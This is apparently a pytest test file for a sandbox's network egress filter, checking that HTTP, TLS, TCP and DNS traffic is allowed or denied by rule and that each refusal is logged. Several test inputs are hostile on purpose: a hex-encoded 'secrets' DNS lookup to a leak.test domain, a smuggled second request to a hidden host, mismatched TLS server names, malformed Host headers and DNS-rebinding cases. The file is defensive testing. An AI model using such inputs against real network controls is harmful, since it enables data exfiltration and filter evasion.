"""What goes through and what does not: HTTP, TLS, raw connections and names, each refusal with its record."""

# ruff: noqa: E501  (programs for the guest are text)
from __future__ import annotations

from pathlib import Path

import pytest

from sandbox_gym.network import NetworkRecord
from sandbox_gym.sandbox import Sandbox
from tests.network.conftest import Opened, curl, last, value


def verdicts(sandbox: Sandbox) -> list[tuple[str, str, int, str]]:
    return [(r.kind, r.host, r.port, r.verdict) for r in sandbox.network_log()]


def test_http(opened: Opened, web: str) -> None:
    box = opened(services={"api": web, "api:80": web})
    port = int(web.split(":")[1])
    assert curl(box, "http://api/one http://api/two") == "GET api/oneGET api/two"
    assert curl(box, f"http://API.:{port}/x") == f"GET API.:{port}/x"
    assert curl(box, "-d text http://api/") == "POST api/ text"
    assert curl(box, "-d text -H 'Transfer-Encoding: chunked' http://api/") == "POST api/ text"
    assert (
        value(box, "import urllib.request; urllib.request.urlopen('http://api/p', timeout=5).read()")
        == "b'GET api/p'"
    )
    assert set(verdicts(box)) == {("http", "api", 80, "allowed"), ("http", "api", port, "allowed")}
    record = box.network_log()[0]
    assert record.received > len("GET api/one") and record.sent > 0 and record.reason == ""
    # Not by the proxy: the name leads there by itself.
    assert curl(box, f"--noproxy '*' http://api/z http://api:{port}/z") == f"GET api/zGET api:{port}/z"
    assert last(box).kind == "tcp"


def test_http_that_is_refused(opened: Opened, web: str) -> None:
    box = opened(services={"api:80": web, "other:80": web})
    for url in (
        "http://denied.test/",
        "http://192.0.2.7/",
        "http://[2001:db8::7]/",
        "http://api:81/",
        f"http://{web}/",
    ):
        assert "no rule allows" in curl(box, f"--noproxy none {url}")
        assert last(box).verdict == "denied" and last(box).kind == "http"
    assert "Could not resolve" in curl(box, "-L --noproxy '*' http://api/away")
    assert "no rule allows elsewhere.test" in curl(box, "-L http://api/away")
    hosts = {
        "the Host field names another": b"GET http://api/ HTTP/1.1\r\nHost: other\r\n\r\n",
        "no Host field": b"GET http://api/ HTTP/1.1\r\n\r\n",
        "more than one host": b"GET http://api/ HTTP/1.1\r\nHost: api\r\nHost: api\r\n\r\n",
        "no http:// address": b"GET / HTTP/1.1\r\nHost: api\r\n\r\n",
        "no host and port": b"CONNECT api HTTP/1.1\r\n\r\n",
        "no request of HTTP": b"SSH-2.0-x\r\n\r\n",
        "too long a head": b"GET http://api/ HTTP/1.1\r\nHost: api\r\nX: " + b"x" * 40_000,
    }
    for reason, block in hosts.items():
        assert reason in value(box, f"by_proxy({block!r})")
        assert last(box).verdict == "denied"
        assert last(box).reason.startswith(reason)


def test_one_request_a_connection(opened: Opened, web: str) -> None:
    """A second could name another host, behind the first one's address."""
    box = opened(services={"api:80": web})
    two = (
        b"GET http://api/1 HTTP/1.1\r\nHost: api\r\n\r\nGET http://hidden/2 HTTP/1.1\r\nHost: hidden\r\n\r\n"
    )
    answer = value(box, f"by_proxy({two!r})")
    assert "GET api/1" in answer and "hidden" not in answer
    assert len(verdicts(box)) == 1


def test_https(opened: Opened, secure_web: str, certificate: Path) -> None:
    box = opened(services={"secure.test:443": secure_web, "*.secure.test:443": secure_web})
    box.write_file("/tmp/ca.pem", certificate.read_bytes())
    safe = "--cacert /tmp/ca.pem"
    assert curl(box, f"{safe} https://secure.test/x") == "GET secure.test/x"
    assert (last(box).kind, last(box).host, last(box).port, last(box).verdict) == (
        "connect",
        "secure.test",
        443,
        "allowed",
    )
    assert curl(box, f"{safe} --noproxy '*' https://secure.test/y") == "GET secure.test/y"
    assert last(box).kind == "tcp"
    assert curl(box, f"{safe} https://a.secure.test/") == "GET a.secure.test/"
    # One address stands for all names of a wildcard: TLS tells which.
    assert curl(box, f"{safe} --noproxy '*' https://b.secure.test/") == "GET b.secure.test/"
    assert last(box).host == "b.secure.test"
    assert value(box, "tunnel('secure.test:443', hello('secure.test'))[0]") == "22"  # a handshake of TLS


@pytest.mark.parametrize("name", ["other.test", "a.secure.test"])
def test_tls_that_names_another_server(opened: Opened, secure_web: str, name: str) -> None:
    box = opened(services={"secure.test:443": secure_web})
    assert value(box, f"tunnel('secure.test:443', hello({name!r}))") == "b''"
    assert last(box).verdict == "denied" and last(box).reason == f"TLS names another server: {name}"
    assert "x16" not in value(box, f"talk(('secure.test', 443), hello({name!r}))")
    assert last(box).verdict == "denied" and last(box).kind == "tcp"


def test_a_connect_to_another_port_or_address(opened: Opened, secure_web: str) -> None:
    box = opened(services={"secure.test:443": secure_web})
    for to in (
        "secure.test:22",
        "secure.test:80",
        "192.0.2.1:443",
        "[::1]:443",
        secure_web,
        "2130706433:443",
    ):
        assert "403" in value(box, f"tunnel({to!r}, b'x')") or "400" in value(box, f"tunnel({to!r}, b'x')")
        assert last(box).verdict == "denied"


def test_raw_tcp(opened: Opened, echo: str) -> None:
    port = int(echo.split(":")[1])
    box = opened(services={"db": echo, "db:5432": echo})
    talk = "s = socket.create_connection({}, timeout=5); s.sendall(b'ping'); s.shutdown(1); b''.join(iter(lambda: s.recv(99), b''))"
    assert value(box, talk.format(("db", port))) == value(box, talk.format(("db", 5432))) == "b'hello\\nping'"
    assert (last(box).kind, last(box).host, last(box).sent, last(box).received) == ("tcp", "db", 4, 10)
    assert value(box, "tunnel('db:5432', b'x')[:5]") == "b'hello'"
    assert "Refused" in str(box.run_code("socket.create_connection(('db', 5433), timeout=5)").error)


def test_names(opened: Opened, web: str) -> None:
    box = opened("example.org", "*.wild.org", services={"api": web})
    assert value(box, "ask('example.org'), ask('EXAMPLE.org'), ask('a.b.wild.org'), ask('api')") == str(
        ((0, 1),) * 4
    )
    assert value(box, "ask('example.org', 28), ask('example.org', 16), ask('example.org', 15)") == str(
        ((0, 0),) * 3
    )
    assert box.network_log() == []
    secret = "73656372657473.leak.test"
    assert value(
        box, f"ask({secret!r}), ask({secret!r}, 16), ask('wild.org'), ask('1.0.0.127.in-addr.arpa', 12)"
    ) == str(((3, 0),) * 4)
    assert verdicts(box)[0] == ("dns", secret, 53, "denied")
    assert box.run_code("import socket; socket.getaddrinfo('x.leak.test', 80)").error is not None
    assert len(box.network_log()) > 4


def test_names_that_resolve_to_this_machine(opened: Opened, web: str) -> None:
    """A rule for a name says nothing of private addresses: DNS rebinding. `localhost` is such a name on each machine."""
    port = web.split(":")[1]
    box = opened(f"localhost:{port}")
    assert "which is no public address" in value(box, f"tunnel('localhost:{port}', b'x')")
    assert last(box).verdict == "denied" and "localhost resolves to" in last(box).reason


def test_a_server_that_is_not_there(opened: Opened) -> None:
    box = opened(services={"api:80": "127.0.0.1:1"})
    assert "could not be reached" in curl(box, "http://api/")
    assert last(box).verdict == "allowed" and "could not be reached" in last(box).reason


def test_closed_by_default(box: Sandbox, web: str) -> None:
    assert box.network_log() == []
    for port in (53, 3128, 80, int(web.split(":")[1])):
        assert "Refused" in str(
            box.run_code(f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)").error
        )
    assert box.shell("env | grep -i proxy").stdout == ""
    assert box.run_code("import socket; socket.getaddrinfo('example.org', 80)").error is not None


def test_records(opened: Opened, web: str) -> None:
    box = opened(services={"api:80": web})
    value(box, "[ask(f'n{i}.test') for i in range(1100)]")
    names = [record.host for record in box.network_log()]
    assert names == [f"n{i}.test" for i in range(100, 1100)]
    record = last(box)
    assert isinstance(record, NetworkRecord) and record.time > 0 and record.reason
